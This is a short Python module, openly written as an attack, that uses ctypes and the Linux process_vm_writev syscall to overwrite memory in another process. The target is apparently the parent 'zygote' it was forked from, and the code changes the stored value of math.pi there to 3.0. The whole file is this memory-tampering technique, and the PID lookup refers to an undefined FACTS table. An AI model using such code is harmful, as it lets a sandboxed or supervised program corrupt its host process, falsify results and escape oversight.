"""Writes the memory of its zygote."""

import ctypes
import math


class Piece(ctypes.Structure):
    _fields_ = (("start", ctypes.c_void_p), ("length", ctypes.c_size_t))


def native(name, *arguments):
    library = ctypes.CDLL(None, use_errno=True)
    if getattr(library, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)
    return "done"


def attack(x):
    # A fork keeps addresses: what lies here lies there too.
    theirs = id(math.pi) + 16
    ours = ctypes.c_double(3.0)
    mine, other = Piece(ctypes.addressof(ours), 8), Piece(theirs, 8)
    return native("process_vm_writev", FACTS["zygote"], ctypes.byref(mine), 1, ctypes.byref(other), 1, 0)
